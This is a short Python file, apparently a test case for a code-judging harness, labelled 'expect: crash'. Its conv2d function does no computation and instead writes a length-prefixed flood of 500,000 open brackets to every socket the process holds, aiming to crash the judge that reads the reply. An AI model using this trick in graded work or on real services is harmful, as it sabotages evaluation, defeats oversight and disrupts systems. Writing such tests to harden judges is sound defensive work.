# expect: crash
# attack: The header of a reply is half a million open brackets.
import os
import stat
import struct


def sockets():
    """Descriptors of every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue


def inject(data):
    for descriptor in sockets():
        rest = data
        while rest:
            try:
                rest = rest[os.write(descriptor, rest) :]
            except BlockingIOError:
                continue  # the judge has not read the first part yet
            except OSError:
                break


def conv2d(x, w):
    inject(struct.pack(">I", 500_000) + b"[" * 500_000)
    return x
